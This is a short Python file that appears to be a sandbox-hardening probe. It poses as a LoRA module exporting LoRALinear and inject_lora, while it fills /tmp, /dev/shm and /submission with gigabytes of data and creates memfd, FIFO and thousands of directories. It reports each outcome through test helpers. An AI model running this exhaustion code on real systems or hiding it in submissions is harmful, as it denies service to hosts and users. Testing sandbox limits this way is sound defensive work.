# attack: fills /tmp, /dev/shm and anonymous files without end, with many files and with long ones
# class: memory
import os

from wrong_layer import Wrong as LoRALinear
from wrong_layer import attempt, inject_lora, ran, won

__all__ = ["LoRALinear", "inject_lora"]
CHUNK = bytes(1 << 20)
total = 0
for folder in ("/tmp", "/dev/shm", "/submission"):
    try:
        for number in range(100_000):
            with open(f"{folder}/attack-marker-{number}", "wb", buffering=0) as file:
                while total < 4 << 30:
                    total += file.write(CHUNK)
    except OSError as error:
        ran(f"{folder}: {error.strerror} after {number} files")
(won if total > 1 << 30 else ran)(f"{total >> 20} MiB written")
attempt("memfd_create", lambda: os.memfd_create("a"))
attempt("mkfifo", lambda: os.mkfifo("/dev/shm/attack-marker-fifo"))
try:
    for number in range(100_000):
        os.mkdir(f"/tmp/d{number}")
except OSError as error:
    ran(f"{number} folders: {error.strerror}")
